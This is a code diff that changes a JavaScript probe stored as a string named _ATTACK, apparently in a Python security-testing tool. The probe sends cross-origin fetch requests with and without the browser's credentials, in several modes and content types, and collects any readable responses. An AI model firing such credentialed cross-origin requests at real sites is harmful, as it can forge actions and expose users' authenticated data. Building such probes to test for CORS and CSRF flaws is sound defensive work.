@@ -44,13 +44,14 @@ _ATTACK = """async ([picture, asked]) => {
   const told = [];
   for (const [url, method, body] of asked)
     for (const mode of ["cors", "no-cors"])
-      for (const type of ["application/json", "text/plain"])
-        try {
-          const options = {method, mode, credentials: "include"};
-          if (body) options.body = JSON.stringify(body);
-          const answer = await fetch(url, {...options, headers: {"Content-Type": type}});
-          if (mode == "cors") told.push([url, answer.status, await answer.text()]);
-        } catch (error) { /* the browser keeps the answer from us */ }
+      for (const credentials of ["include", "omit"])
+        for (const type of ["application/json", "text/plain"])
+          try {
+            const options = {method, mode, credentials};
+            if (body) options.body = JSON.stringify(body);
+            const answer = await fetch(url, {...options, headers: {"Content-Type": type}});
+            if (mode == "cors") told.push([url, answer.status, await answer.text()]);
+          } catch (error) { /* the browser keeps the answer from us */ }
   return [seen, told];
 }"""
 
